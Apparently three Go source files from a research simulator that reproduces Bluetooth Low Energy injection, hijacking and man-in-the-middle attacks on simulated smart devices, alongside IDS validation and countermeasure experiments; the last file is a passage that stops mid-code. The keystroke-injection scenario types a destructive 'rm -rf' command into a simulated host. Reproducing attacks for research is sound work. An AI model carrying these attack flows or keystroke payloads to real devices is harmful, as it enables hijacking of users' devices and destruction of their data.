func (s *scene) featureTrigger() (handle uint16, value []byte, verify func() bool, desc string) {
	switch s.targetName {
	case "lightbulb":
		return s.bulb.ControlHandle(), devices.PowerCommand(true),
			func() bool { return s.bulb.On }, "turn bulb on"
	case "keyfob":
		return s.fob.AlertHandle(), devices.RingCommand(),
			func() bool { return s.fob.Ringing }, "make keyfob ring"
	default:
		return s.watch.SMSHandle(), []byte("Forged SMS"),
			func() bool {
				for _, m := range s.watch.Messages {
					if m == "Forged SMS" {
						return true
					}
				}
				return false
			}, "forge SMS to watch"
	}
}

// ScenarioOutcome reports one scenario run against one device.
type ScenarioOutcome struct {
	Target   string
	Success  bool
	Attempts int
	Detail   string
	// IDS counters (when a monitor was attached).
	IDSAlerts map[ids.AlertKind]int
}

// idsCounts snapshots the monitor's alert counts.
func (s *scene) idsCounts() map[ids.AlertKind]int {
	if s.monitor == nil {
		return nil
	}
	out := make(map[ids.AlertKind]int)
	for _, a := range s.monitor.Alerts() {
		out[a.Kind]++
	}
	return out
}

// forgedNameServer builds the §VI-B impostor profile: Device Name "Hacked".
func forgedNameServer() *gatt.Server {
	srv := gatt.NewServer(func([]byte) {})
	srv.AddService(&gatt.Service{
		UUID: att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{{
			UUID: att.UUID16(0x2A00), Properties: gatt.PropRead, Value: []byte("Hacked"),
		}},
	})
	return srv
}

// ScenarioTargets lists the paper's three commercial devices.
func ScenarioTargets() []string { return []string{"lightbulb", "keyfob", "smartwatch"} }

// RunScenarioA injects a feature-trigger write into the target (§VI-A).
func RunScenarioA(target string, seed uint64, withIDS bool) (ScenarioOutcome, error) {
	return RunScenarioAWith(target, seed, withIDS, Instrumentation{})
}

// RunScenarioAWith is RunScenarioA with observability attached.
func RunScenarioAWith(target string, seed uint64, withIDS bool, inst Instrumentation) (ScenarioOutcome, error) {
	s, err := newSceneWith(target, seed, withIDS, inst)
	if err != nil {
		return ScenarioOutcome{}, err
	}
	if err := s.connect(); err != nil {
		return ScenarioOutcome{}, err
	}
	handle, value, verify, desc := s.featureTrigger()
	var rep *injectable.Report
	if err := s.attacker.InjectWrite(handle, value, func(r injectable.Report) { rep = &r }); err != nil {
		return ScenarioOutcome{}, err
	}
	s.w.RunFor(60 * sim.Second)
	out := ScenarioOutcome{Target: target, Detail: desc, IDSAlerts: s.idsCounts()}
	if rep != nil {
		out.Attempts = rep.AttemptCount()
		out.Success = rep.Success && verify()
	}
	return out, nil
}

// RunScenarioB expels the slave and serves a "Hacked" device name (§VI-B).
func RunScenarioB(target string, seed uint64, withIDS bool) (ScenarioOutcome, error) {
	return RunScenarioBWith(target, seed, withIDS, Instrumentation{})
}

// RunScenarioBWith is RunScenarioB with observability attached.
func RunScenarioBWith(target string, seed uint64, withIDS bool, inst Instrumentation) (ScenarioOutcome, error) {
	s, err := newSceneWith(target, seed, withIDS, inst)
	if err != nil {
		return ScenarioOutcome{}, err
	}
	if err := s.connect(); err != nil {
		return ScenarioOutcome{}, err
	}
	srv := forgedNameServer()
	var hijack *injectable.SlaveHijack
	var herr error
	err = s.attacker.HijackSlave(srv, func(h *injectable.SlaveHijack, e error) { hijack, herr = h, e })
	if err != nil {
		return ScenarioOutcome{}, err
	}
	s.w.RunFor(40 * sim.Second)
	out := ScenarioOutcome{Target: target, Detail: "slave hijack + forged name", IDSAlerts: s.idsCounts()}
	if herr != nil || hijack == nil {
		return out, nil
	}
	out.Attempts = hijack.Report.AttemptCount()

	// Verify: legitimate slave expelled, master alive, forged name served.
	var name []byte
	s.phone.GATT().Read(3, func(v []byte, err error) {
		if err == nil {
			name = v
		}
	})
	s.w.RunFor(5 * sim.Second)
	out.Success = !s.target.Connected() && s.phone.Central.Connected() && string(name) == "Hacked"
	return out, nil
}

// RunScenarioC splits the slave off with a forged CONNECTION_UPDATE and
// hijacks the master role (§VI-C).
func RunScenarioC(target string, seed uint64, withIDS bool) (ScenarioOutcome, error) {
	return RunScenarioCWith(target, seed, withIDS, Instrumentation{})
}

// RunScenarioCWith is RunScenarioC with observability attached.
func RunScenarioCWith(target string, seed uint64, withIDS bool, inst Instrumentation) (ScenarioOutcome, error) {
	s, err := newSceneWith(target, seed, withIDS, inst)
	if err != nil {
		return ScenarioOutcome{}, err
	}
	if err := s.connect(); err != nil {
		return ScenarioOutcome{}, err
	}
	var hijack *injectable.MasterHijack
	var herr error
	err = s.attacker.HijackMaster(injectable.UpdateParams{},
		func(h *injectable.MasterHijack, e error) { hijack, herr = h, e })
	if err != nil {
		return ScenarioOutcome{}, err
	}
	s.w.RunFor(60 * sim.Second)
	out := ScenarioOutcome{Target: target, Detail: "master hijack via forged update", IDSAlerts: s.idsCounts()}
	if herr != nil || hijack == nil {
		return out, nil
	}
	out.Attempts = hijack.Report.AttemptCount()

	// Verify: attacker owns the slave, legitimate master timed out, and a
	// scenario-A feature can be triggered through the hijacked role.
	handle, value, verify, _ := s.featureTrigger()
	hijack.Client.Write(handle, value, func(error) {})
	s.w.RunFor(10 * sim.Second)
	out.Success = !hijack.Conn.Closed() && s.target.Connected() &&
		!s.phone.Central.Connected() && verify()
	return out, nil
}

// RunScenarioD establishes the MITM and rewrites traffic on the fly
// (§VI-D): for the smartwatch an SMS is mutated; for the others a write
// payload is flipped.
func RunScenarioD(target string, seed uint64, withIDS bool) (ScenarioOutcome, error) {
	return RunScenarioDWith(target, seed, withIDS, Instrumentation{})
}

// RunScenarioDWith is RunScenarioD with observability attached.
func RunScenarioDWith(target string, seed uint64, withIDS bool, inst Instrumentation) (ScenarioOutcome, error) {
	s, err := newSceneWith(target, seed, withIDS, inst)
	if err != nil {
		return ScenarioOutcome{}, err
	}
	if err := s.connect(); err != nil {
		return ScenarioOutcome{}, err
	}
	mutated := false
	mutate := func(p pdu.DataPDU) (pdu.DataPDU, bool) {
		// Flip any 0xAA byte in relayed payloads to 0xBB.
		for i, b := range p.Payload {
			if b == 0xAA {
				p.Payload[i] = 0xBB
				mutated = true
			}
		}
		return p, true
	}
	var session *injectable.MITM
	var merr error
	err = s.attacker.ManInTheMiddle(injectable.UpdateParams{},
		injectable.MITMConfig{OnMasterToSlave: mutate},
		func(m *injectable.MITM, e error) { session, merr = m, e })
	if err != nil {
		return ScenarioOutcome{}, err
	}
	s.w.RunFor(60 * sim.Second)
	out := ScenarioOutcome{Target: target, Detail: "MITM with on-the-fly mutation", IDSAlerts: s.idsCounts()}
	if merr != nil || session == nil || session.Closed() {
		return out, nil
	}
	out.Attempts = session.Report.AttemptCount()

	// Send traffic carrying the 0xAA marker through the MITM.
	handle, _, _, _ := s.featureTrigger()
	var gotAtSlave []byte
	switch s.targetName {
	case "lightbulb":
		s.bulb.Peripheral.GATT.FindCharacteristic(devices.UUIDBulbControl).OnWrite = func(v []byte) {
			gotAtSlave = append([]byte(nil), v...)
		}
	case "keyfob":
		s.fob.Peripheral.GATT.FindCharacteristic(devices.UUIDAlertLevel).OnWrite = func(v []byte) {
			gotAtSlave = append([]byte(nil), v...)
		}
	default:
		s.watch.Peripheral.GATT.FindCharacteristic(devices.UUIDWatchSMS).OnWrite = func(v []byte) {
			gotAtSlave = append([]byte(nil), v...)
		}
	}
	s.phone.GATT().WriteCommand(handle, []byte{0xAA, 0xAA})
	s.w.RunFor(10 * sim.Second)

	rewritten := len(gotAtSlave) == 2 && gotAtSlave[0] == 0xBB && gotAtSlave[1] == 0xBB
	out.Success = mutated && rewritten &&
		s.phone.Central.Connected() && s.target.Connected()
	return out, nil
}

// EncryptionOutcome reports the countermeasure experiment.
type EncryptionOutcome struct {
	// Paired reports pairing + encryption succeeded before the attack.
	Paired bool
	// FeatureTriggered: the injected write executed (must be false).
	FeatureTriggered bool
	// ConnectionDropped: the MIC failure tore the link down (the residual
	// DoS impact).
	ConnectionDropped bool
}

// RunEncryptedInjection pairs the devices, encrypts the link, then runs an
// injection: the paper's claim is confidentiality/integrity hold and only
// availability is lost (§IV).
func RunEncryptedInjection(seed uint64) (EncryptionOutcome, error) {
	return RunEncryptedInjectionWith(seed, Instrumentation{})
}

// RunEncryptedInjectionWith is RunEncryptedInjection with observability.
func RunEncryptedInjectionWith(seed uint64, inst Instrumentation) (EncryptionOutcome, error) {
	s, err := newSceneWith("lightbulb", seed, false, inst)
	if err != nil {
		return EncryptionOutcome{}, err
	}
	if err := s.connect(); err != nil {
		return EncryptionOutcome{}, err
	}
	var out EncryptionOutcome
	if err := s.phone.Central.Pair(); err != nil {
		return out, err
	}
	s.w.RunFor(5 * sim.Second)
	out.Paired = s.phone.Central.Connected() && s.phone.Central.Conn().Encrypted()
	if !out.Paired {
		return out, nil
	}
	dropped := false
	s.target.OnDisconnect = func(r link.DisconnectReason) {
		if r.Code == pdu.ErrCodeMICFailure {
			dropped = true
		}
	}
	var rep *injectable.Report
	err = s.attacker.InjectWrite(s.bulb.ControlHandle(), devices.PowerCommand(true),
		func(r injectable.Report) { rep = &r })
	if err != nil {
		return out, err
	}
	s.w.RunFor(60 * sim.Second)
	out.FeatureTriggered = s.bulb.On
	out.ConnectionDropped = dropped
	_ = rep
	return out, nil
}

// ScenarioTable renders scenario outcomes across targets.
func ScenarioTable(id, title string, outcomes []ScenarioOutcome) *Table {
	t := &Table{
		Title:  fmt.Sprintf("%s — %s", id, title),
		Header: []string{"target", "success", "injection attempts", "detail"},
	}
	for _, o := range outcomes {
		t.Rows = append(t.Rows, []string{
			o.Target, fmt.Sprintf("%t", o.Success), fmt.Sprintf("%d", o.Attempts), o.Detail,
		})
	}
	return t
}

// Fig8Topology renders the experimental setup of Fig. 8 as text.
func Fig8Topology() *Table {
	bulb, central, attacker := trianglePositions()
	t := &Table{
		Title:  "fig8 — experimental setup",
		Header: []string{"device", "position", "role"},
		Rows: [][]string{
			{"peripheral (bulb)", bulb.String(), "slave / injection target"},
			{"central (phone)", central.String(), "master, 2 m from peripheral"},
			{"attacker", attacker.String(), "equilateral triangle, 2 m edges"},
		},
		Notes: []string{
			"experiment 3 moves the attacker to (-d, 0) for d in {1,2,4,6,8,10} m (positions A–F)",
			"the wall variant adds a 7 dB wall at x = -0.5 m",
		},
	}
	for _, d := range []float64{1, 2, 4, 6, 8, 10} {
		_, _, atk := distancePositions(d)
		t.Rows = append(t.Rows, []string{
			fmt.Sprintf("attacker pos %c", 'A'+int(map[float64]int{1: 0, 2: 1, 4: 2, 6: 3, 8: 4, 10: 5}[d])),
			atk.String(), fmt.Sprintf("%g m from peripheral", d),
		})
	}
	return t
}

// RunScenarioKeystrokes realises the paper's §IX future-work scenario:
// hijack the slave, present a HID keyboard via Service Changed, and inject
// keystrokes into the connected host.
func RunScenarioKeystrokes(seed uint64, withIDS bool) (ScenarioOutcome, error) {
	return RunScenarioKeystrokesWith(seed, withIDS, Instrumentation{})
}

// RunScenarioKeystrokesWith is RunScenarioKeystrokes with observability.
func RunScenarioKeystrokesWith(seed uint64, withIDS bool, inst Instrumentation) (ScenarioOutcome, error) {
	w := host.NewWorld(host.WorldConfig{Seed: seed, Tracer: inst.Tracer, Obs: inst.Obs})
	bulbPos, centralPos, attackerPos := trianglePositions()
	fob := devices.NewKeyfob(w.NewDevice(host.DeviceConfig{Name: "keyfob", Position: bulbPos}))
	computer := devices.NewComputer(w.NewDevice(host.DeviceConfig{Name: "laptop", Position: centralPos}))
	atk := w.NewDevice(host.DeviceConfig{
		Name: "attacker", Position: attackerPos,
		ClockPPM: 20, ClockJitter: 500 * sim.Nanosecond,
	})
	attacker := injectable.NewAttacker(atk.Stack, injectable.InjectorConfig{})
	if inst.Pcap != nil {
		capturePcap(attacker.Sniffer, inst.Pcap)
	}
	var monitor *ids.Monitor
	if withIDS {
		monitor = ids.New(ids.Config{})
		w.Medium.AddObserver(monitor)
	}

	attacker.Sniffer.Start()
	fob.Peripheral.StartAdvertising()
	computer.Connect(fob.Peripheral.Device.Address())
	w.RunFor(3 * sim.Second)
	if !attacker.Sniffer.Following() {
		return ScenarioOutcome{}, fmt.Errorf("experiments: sniffer failed to sync")
	}

	out := ScenarioOutcome{Target: "keyfob→keyboard", Detail: "HID keystroke injection (§IX)"}
	var ki *injectable.KeystrokeInjection
	err := attacker.InjectKeyboard("Wireless Keyboard", func(k *injectable.KeystrokeInjection, err error) {
		ki = k
	})
	if err != nil {
		return out, err
	}
	w.RunFor(50 * sim.Second)
	if ki == nil || !ki.Attached() {
		return out, nil
	}
	out.Attempts = ki.Hijack.Report.AttemptCount()
	if err := ki.Type("rm -rf  tmp x\n"); err != nil {
		return out, nil
	}
	w.RunFor(20 * sim.Second)
	out.Success = computer.HIDAttached && computer.Typed.Len() > 0
	if monitor != nil {
		alerts := make(map[ids.AlertKind]int)
		for _, a := range monitor.Alerts() {
			alerts[a.Kind]++
		}
		out.IDSAlerts = alerts
	}
	return out, nil
}

// IDSValidation measures the monitor's detection and false-positive rates
// across many independent runs — TrialsPerPoint clean connections and as
// many attacked ones, fanned out over the campaign pool. An
// "injection-class" alert is a double frame or anchor deviation.
func IDSValidation(opts Options) (*Table, error) {
	opts.applyDefaults()
	n := opts.TrialsPerPoint
	injectionAlerts := func(alerts map[ids.AlertKind]int) int {
		return alerts[ids.AlertDoubleFrame] + alerts[ids.AlertAnchorDeviation] +
			alerts[ids.AlertRogueUpdate] + alerts[ids.AlertScheduleSplit]
	}
	base := opts.SeedBase
	spec := &campaign.Spec{Name: "ids-validation", SeedBase: base, Points: []campaign.Point{
		{
			Label: "clean", Trials: n,
			Seed: func(i int) uint64 { return base + uint64(i) },
			Run: func(t campaign.Trial) (any, error) {
				s, err := newScene("lightbulb", t.Seed, true)
				if err != nil {
					return nil, err
				}
				if err := s.connect(); err != nil {
					return nil, err
				}
				s.w.RunFor(20 * sim.Second) // clean traffic only
				return injectionAlerts(s.idsCounts()) > 0, nil
			},
		},
		{
			Label: "attack", Trials: n,
			Seed: func(i int) uint64 { return base + 1000 + uint64(i) },
			Run: func(t campaign.Trial) (any, error) {
				out, err := RunScenarioA("lightbulb", t.Seed, true)
				if err != nil {
					return nil, err
				}
				return injectionAlerts(out.IDSAlerts) > 0, nil
			},
		},
	}}
	truePositives, falsePositives := 0, 0
	collect := campaign.OnResult(func(r campaign.Result) {
		if r.Err != nil {
			return
		}
		if alerted := r.Value.(bool); alerted {
			if r.Point == "clean" {
				falsePositives++
			} else {
				truePositives++
			}
		}
		opts.progress(r.Point, r.Index)
	})
	if _, err := opts.runner(collect).Run(spec); err != nil {
		return nil, err
	}
	return &Table{
		Title:  "IDS validation: detection vs false positives (20 s clean runs vs scenario A)",
		Header: []string{"runs per class", "true positives", "false positives", "TPR", "FPR"},
		Rows: [][]string{{
			fmt.Sprintf("%d", n),
			fmt.Sprintf("%d", truePositives),
			fmt.Sprintf("%d", falsePositives),
			fmt.Sprintf("%.0f%%", 100*float64(truePositives)/float64(n)),
			fmt.Sprintf("%.0f%%", 100*float64(falsePositives)/float64(n)),
		}},
		Notes: []string{"paper §VIII: an LL monitor 'able to detect, at the right instant, the presence of double frames'"},
	}, nil
}
