package experiments

import (
	"fmt"
	"sort"

	"injectable/internal/campaign"
)

// This file is the servable-campaign registry: every multi-trial study in
// the package, addressable by name, expressed as a campaign.Spec whose
// trial functions return JSON-marshalable values. The serving daemon
// (internal/serve) builds its job registry from these entry points, so a
// queued daemon job runs the exact campaign — same names, same per-point
// seed bases, same trial functions — as the corresponding CLI sweep, and
// their deterministic NDJSON streams are byte-identical.

// sweepDef binds a servable sweep name to its campaign id and points.
type sweepDef struct {
	id  string
	pts func(Options) []SweepPoint
}

// sweepDefs lists every parameter sweep servable by name.
func sweepDefs() map[string]sweepDef {
	return map[string]sweepDef{
		"exp1":             {"fig9-exp1", exp1Points},
		"exp2":             {"fig9-exp2", exp2Points},
		"exp3":             {"fig9-exp3", exp3Points},
		"exp3wall":         {"fig9-exp3wall", exp3WallPoints},
		"ablation-capture": {"ablation-capture", ablationCapturePoints},
		"ablation-sca":     {"ablation-sca", ablationSCAPoints},
		"ablation-timing":  {"ablation-timing", ablationTimingPoints},
		"ablation-guard":   {"ablation-guard", ablationGuardPoints},
		"heuristic":        {"heuristic-validation", heuristicPoints},
	}
}

// counterfactualName is the one servable study that is not a plain
// RunTrial sweep: its trials return CounterfactualOutcome values and its
// points carry fork warmups, so the registry special-cases it rather than
// forcing it through BuildSweep.
const counterfactualName = "counterfactual"

// SweepNames lists the servable sweeps in sorted order.
func SweepNames() []string {
	defs := sweepDefs()
	names := make([]string, 0, len(defs)+1)
	for name := range defs {
		names = append(names, name)
	}
	names = append(names, counterfactualName)
	sort.Strings(names)
	return names
}

// SweepSpec builds the campaign spec for a named sweep. The spec is
// identical to the one the Experiment* entry points run, so executing it
// with a campaign runner reproduces the CLI's per-trial results exactly.
// When opts carries a point range, only that slice of the sweep's points
// is expanded; the sliced trials are bit-identical to the corresponding
// points of the full sweep because every point's seed base is absolute.
func SweepSpec(name string, opts Options) (*campaign.Spec, error) {
	if name == counterfactualName {
		opts.applyDefaults()
		pts, err := SlicePoints(name, counterfactualPoints(opts), opts.PointStart, opts.PointCount)
		if err != nil {
			return nil, err
		}
		return counterfactualSpec(opts, pts), nil
	}
	def, ok := sweepDefs()[name]
	if !ok {
		return nil, fmt.Errorf("experiments: unknown sweep %q", name)
	}
	opts.applyDefaults()
	pts, err := SlicePoints(name, def.pts(opts), opts.PointStart, opts.PointCount)
	if err != nil {
		return nil, err
	}
	return BuildSweep(opts, def.id, pts), nil
}

// SweepPointCount reports how many points a named sweep expands to under
// these options — the fabric planner's shard-range arithmetic.
func SweepPointCount(name string, opts Options) (int, error) {
	opts.applyDefaults()
	if name == counterfactualName {
		return len(counterfactualPoints(opts)), nil
	}
	def, ok := sweepDefs()[name]
	if !ok {
		return 0, fmt.Errorf("experiments: unknown sweep %q", name)
	}
	return len(def.pts(opts)), nil
}

// SlicePoints bounds-checks and applies a point range: [start, start+count)
// with count 0 meaning "through the end". (0, 0) returns pts unchanged.
func SlicePoints[P any](name string, pts []P, start, count int) ([]P, error) {
	if start == 0 && count == 0 {
		return pts, nil
	}
	if start < 0 || count < 0 {
		return nil, fmt.Errorf("experiments: %s: negative point range [%d,+%d)", name, start, count)
	}
	if start >= len(pts) {
		return nil, fmt.Errorf("experiments: %s: point start %d beyond the %d points", name, start, len(pts))
	}
	end := len(pts)
	if count > 0 {
		end = start + count
		if end > len(pts) {
			return nil, fmt.Errorf("experiments: %s: point range [%d,%d) beyond the %d points", name, start, end, len(pts))
		}
	}
	return pts[start:end], nil
}

// scenarioRun is the common shape of the RunScenario* entry points.
type scenarioRun func(target string, seed uint64, withIDS bool) (ScenarioOutcome, error)

// scenarioDefs lists every servable attack scenario.
func scenarioDefs() map[string]scenarioRun {
	return map[string]scenarioRun{
		"scenarioA": RunScenarioA,
		"scenarioB": RunScenarioB,
		"scenarioC": RunScenarioC,
		"scenarioD": RunScenarioD,
		"keystrokes": func(_ string, seed uint64, withIDS bool) (ScenarioOutcome, error) {
			return RunScenarioKeystrokes(seed, withIDS)
		},
	}
}

// ScenarioNames lists the servable scenarios in sorted order.
func ScenarioNames() []string {
	defs := scenarioDefs()
	names := make([]string, 0, len(defs))
	for name := range defs {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// ScenarioSpec builds a campaign of independent scenario runs against one
// target: trial i runs the scenario at seed SeedBase+i. The keystrokes
// scenario has a fixed topology and takes no target; every other scenario
// requires one of ScenarioTargets.
func ScenarioSpec(name, target string, opts Options) (*campaign.Spec, error) {
	run, ok := scenarioDefs()[name]
	if !ok {
		return nil, fmt.Errorf("experiments: unknown scenario %q", name)
	}
	if opts.Warmup != "" {
		// Scenario worlds are built per trial by their run functions; there
		// is no shared warm snapshot to fork.
		return nil, fmt.Errorf("experiments: scenario %q takes no warmup mode", name)
	}
	if name == "keystrokes" {
		if target != "" {
			return nil, fmt.Errorf("experiments: scenario %q takes no target", name)
		}
		target = "keyfob→keyboard"
	} else {
		valid := false
		for _, t := range ScenarioTargets() {
			if t == target {
				valid = true
				break
			}
		}
		if !valid {
			return nil, fmt.Errorf("experiments: scenario %q: unknown target %q (want one of %v)",
				name, target, ScenarioTargets())
		}
	}
	opts.applyDefaults()
	base := opts.SeedBase
	points, err := SlicePoints(name, []campaign.Point{{
		Label:  target,
		Trials: opts.TrialsPerPoint,
		Seed:   func(i int) uint64 { return base + uint64(i) },
		Run: func(t campaign.Trial) (any, error) {
			return run(target, t.Seed, false)
		},
	}}, opts.PointStart, opts.PointCount)
	if err != nil {
		return nil, err
	}
	return &campaign.Spec{
		Name:     name + "/" + target,
		SeedBase: base,
		Points:   points,
	}, nil
}
