package experiments

import (
	"context"
	"fmt"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/devices"
	"injectable/internal/gatt"
	"injectable/internal/host"
	"injectable/internal/ids"
	"injectable/internal/injectable"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Payload identifies the frame injected in a trial; each corresponds to an
// on-air PDU length the paper sweeps (§VII-B) and to an observable effect
// on the lightbulb.
type Payload int

// Trial payloads.
const (
	// PayloadTerminate: LL_TERMINATE_IND — 4-byte PDU, disconnects the
	// bulb.
	PayloadTerminate Payload = iota + 1
	// PayloadToggle: empty vendor write — 9-byte PDU, toggles the bulb.
	PayloadToggle
	// PayloadPowerOff: power command — 14-byte PDU (the paper's 22-byte
	// frame), turns the bulb off.
	PayloadPowerOff
	// PayloadColor: colour command — 16-byte PDU, recolours the bulb.
	PayloadColor
	// PayloadFeature: the victim type's feature-trigger write (power-on
	// for the lightbulb, ring for the keyfob, a forged SMS for the
	// smartwatch). The PDU length therefore depends on the target, so
	// PDULen reports 0. This is the payload generalized scenario worlds
	// use for non-lightbulb victims.
	PayloadFeature
)

// PDULen returns the on-air LL PDU length (header + payload).
func (p Payload) PDULen() int {
	switch p {
	case PayloadTerminate:
		return 4
	case PayloadToggle:
		return 9
	case PayloadPowerOff:
		return 14
	case PayloadColor:
		return 16
	default:
		return 0
	}
}

// String implements fmt.Stringer.
func (p Payload) String() string {
	switch p {
	case PayloadTerminate:
		return "terminate(4B)"
	case PayloadToggle:
		return "toggle(9B)"
	case PayloadPowerOff:
		return "power-off(14B)"
	case PayloadColor:
		return "color(16B)"
	case PayloadFeature:
		return "feature"
	default:
		return fmt.Sprintf("payload(%d)", int(p))
	}
}

// frame builds the injectable PDU for the bulb's control handle.
func (p Payload) frame(handle uint16) pdu.DataPDU {
	switch p {
	case PayloadTerminate:
		return injectable.ForgeTerminateInd()
	case PayloadToggle:
		return injectable.ForgeATTWriteCommand(handle, devices.ToggleCommand())
	case PayloadPowerOff:
		return injectable.ForgeATTWriteCommand(handle, devices.PowerCommand(false))
	case PayloadColor:
		return injectable.ForgeATTWriteCommand(handle, devices.ColorCommand(0xFF, 0x00, 0x00))
	default:
		return injectable.ForgeTerminateInd()
	}
}

// TrialConfig describes one injection trial: one fresh connection, one
// injection run, mirroring the paper's "25 injection attacks per value".
type TrialConfig struct {
	// Seed makes the trial reproducible.
	Seed uint64
	// Interval is the connection Hop Interval (paper's knob in exp. 1).
	Interval uint16
	// Payload picks the injected frame (paper's knob in exp. 2).
	Payload Payload
	// BulbPos, CentralPos, AttackerPos place the devices (exp. 3).
	BulbPos, CentralPos, AttackerPos phy.Position
	// Walls adds obstacles (exp. 3, wall variant).
	Walls []phy.Wall
	// PhoneGrade gives the central a phone-grade sloppy clock instead of
	// a dedicated controller (the paper's exp. 3 uses a smartphone).
	PhoneGrade bool
	// Capture overrides the collision model (ablation).
	Capture medium.CaptureModel
	// Injector tunes the attack (ablation).
	Injector injectable.InjectorConfig
	// MaxAttempts bounds the injection (0 = 200).
	MaxAttempts int
	// SimBudget bounds virtual time (0 = 120 s).
	SimBudget sim.Duration
	// Obs collects metrics and injection forensics from the trial's world
	// (nil = no observability; campaign runs thread their per-trial hub
	// through here).
	Obs *obs.Hub
	// Arena recycles simulation allocations from the previous trial run on
	// it (nil = fresh allocations; campaign workers thread their
	// worker-local arena through here). Reuse never changes trial results.
	Arena *sim.Arena
	// Ctx, when non-nil, cancels the trial: the simulation is advanced in
	// short slices and aborts with Ctx's error at the first slice boundary
	// after cancellation (sub-millisecond of wall time). A nil Ctx runs to
	// completion. Slicing never changes results — the scheduler processes
	// the same events in the same order either way.
	Ctx context.Context

	// --- Generalized-world knobs (the scenario DSL compiles onto these).
	// Every zero value reproduces the historical bulb+phone world
	// byte-for-byte: no extra construction, no extra RNG draws. ---

	// Target picks the victim peripheral type: "" or "lightbulb" (the
	// historical default), "keyfob" or "smartwatch".
	Target string
	// TargetName overrides the victim's trace name ("" = "bulb", the
	// historical name, whatever the type).
	TargetName string
	// CentralName overrides the central's trace name ("" = "central").
	CentralName string
	// Latency, Hop, CSA2 and UnusedChans extend the central's connection
	// request beyond the hop interval: slave latency, hop increment (0 =
	// stack default), Channel Selection Algorithm #2, and how many of the
	// lowest data channels the initial channel map marks unused.
	Latency     uint16
	Hop         uint8
	CSA2        bool
	UnusedChans int
	// ActivityMS spaces the central's periodic GATT traffic in
	// milliseconds (0 = none, the historical default).
	ActivityMS int
	// TargetPPM/TargetJitter and CentralPPM/CentralJitter override the
	// victim's and central's sleep-clock model (0 = the stack default).
	// CentralPPM/CentralJitter take precedence over PhoneGrade.
	TargetPPM     float64
	TargetJitter  sim.Duration
	CentralPPM    float64
	CentralJitter sim.Duration
	// WideningScale scales the victim's window-widening countermeasure
	// (§VIII; 0 = the stack default of 1).
	WideningScale float64
	// Extras adds advertising peripherals sharing the band (bystander
	// traffic; they never connect).
	Extras []ExtraPeripheral
	// IDS attaches the §VIII monitor to the medium; the trial result then
	// carries its total alert count.
	IDS bool
	// Goal selects the attacker activity: "" or "inject" (the historical
	// single-frame injection), "none" (baseline world, no attack),
	// "hijack-slave", "hijack-master", "mitm", or "update" (forged
	// CONNECTION_UPDATE_IND without takeover — a stealth schedule split).
	Goal string
	// Update tunes the forged connection update for the hijack-master,
	// mitm and update goals.
	Update injectable.UpdateParams
	// GoalDelay postpones the attack launch this far past the warm phase
	// (0 = launch immediately, the historical behavior).
	GoalDelay sim.Duration
}

// ExtraPeripheral is an additional advertising peripheral sharing the
// band in a generalized scenario world.
type ExtraPeripheral struct {
	// Kind is the device type ("" = "lightbulb", or "keyfob",
	// "smartwatch").
	Kind string
	// Name is the trace name ("" = "extraN" by position).
	Name string
	// Pos places the device.
	Pos phy.Position
}

// Attack goals accepted by TrialConfig.Goal ("" means GoalInject).
const (
	GoalInject       = "inject"
	GoalNone         = "none"
	GoalHijackSlave  = "hijack-slave"
	GoalHijackMaster = "hijack-master"
	GoalMITM         = "mitm"
	GoalUpdate       = "update"
)

// ValidGoal reports whether g names an attack goal ("" included).
func ValidGoal(g string) bool {
	switch g {
	case "", GoalInject, GoalNone, GoalHijackSlave, GoalHijackMaster, GoalMITM, GoalUpdate:
		return true
	}
	return false
}

// TrialResult reports one trial.
type TrialResult struct {
	Success  bool
	Attempts int
	// EffectObserved: ground truth from the device model — the injected
	// command visibly executed (validates the eq. 7 heuristic).
	EffectObserved bool
	// HeuristicAgrees: the heuristic verdict matched the ground truth.
	HeuristicAgrees bool
	// IDSAlerts is the §VIII monitor's total alert count, present only
	// when the trial's world carried the IDS (TrialConfig.IDS). The
	// omitempty keeps historical result streams byte-identical.
	IDSAlerts int `json:"IDSAlerts,omitempty"`
}

// withDefaults returns cfg with every zero knob filled in. All entry
// points (fresh, warm-fresh and fork-based execution) normalise through
// here so a configuration means the same trial everywhere.
func (cfg TrialConfig) withDefaults() TrialConfig {
	if cfg.Interval == 0 {
		cfg.Interval = 36
	}
	if cfg.Payload == 0 {
		cfg.Payload = PayloadPowerOff
	}
	if cfg.CentralPos == (phy.Position{}) {
		cfg.CentralPos = phy.Position{X: 2}
	}
	if cfg.AttackerPos == (phy.Position{}) {
		cfg.AttackerPos = phy.Position{X: 1, Y: 1.732}
	}
	if cfg.SimBudget == 0 {
		cfg.SimBudget = 120 * sim.Second
	}
	if cfg.MaxAttempts != 0 {
		cfg.Injector.MaxAttempts = cfg.MaxAttempts
	}
	return cfg
}

// trialWorld bundles one trial configuration's world and actors. Exactly
// one of bulb/fob/watch is non-nil (the victim); peripheral aliases its
// link-layer peripheral whatever the type.
type trialWorld struct {
	w          *host.World
	bulb       *devices.Lightbulb
	fob        *devices.Keyfob
	watch      *devices.Smartwatch
	peripheral *host.Peripheral
	phone      *devices.Smartphone
	atk        *injectable.Attacker
	monitor    *ids.Monitor
	extras     []*host.Peripheral
}

// buildTrialWorld constructs the world, devices and attacker for cfg
// (defaults already applied). The actor wrappers are registered as
// snapshot roots so a snapshot taken from this world — and RekeyStreams —
// reaches every piece of their state. Construction order is fixed
// (victim, central, attacker, then monitor and extras) and the new-world
// knobs execute nothing when zero, so historical configurations draw the
// same RNG streams they always did.
func buildTrialWorld(cfg TrialConfig) (*trialWorld, error) {
	w := host.NewWorld(host.WorldConfig{
		Seed: cfg.Seed,
		Medium: medium.Config{
			PathLoss: &phy.LogDistance{Walls: cfg.Walls},
			Capture:  cfg.Capture,
		},
		Obs:   cfg.Obs,
		Arena: cfg.Arena,
	})
	tw := &trialWorld{w: w}
	targetName := cfg.TargetName
	if targetName == "" {
		targetName = "bulb"
	}
	targetDev := w.NewDevice(host.DeviceConfig{
		Name: targetName, Position: cfg.BulbPos,
		ClockPPM: cfg.TargetPPM, ClockJitter: cfg.TargetJitter,
		WideningScale: cfg.WideningScale,
	})
	var victimRoot any
	switch cfg.Target {
	case "", "lightbulb":
		tw.bulb = devices.NewLightbulb(targetDev)
		tw.peripheral, victimRoot = tw.bulb.Peripheral, tw.bulb
	case "keyfob":
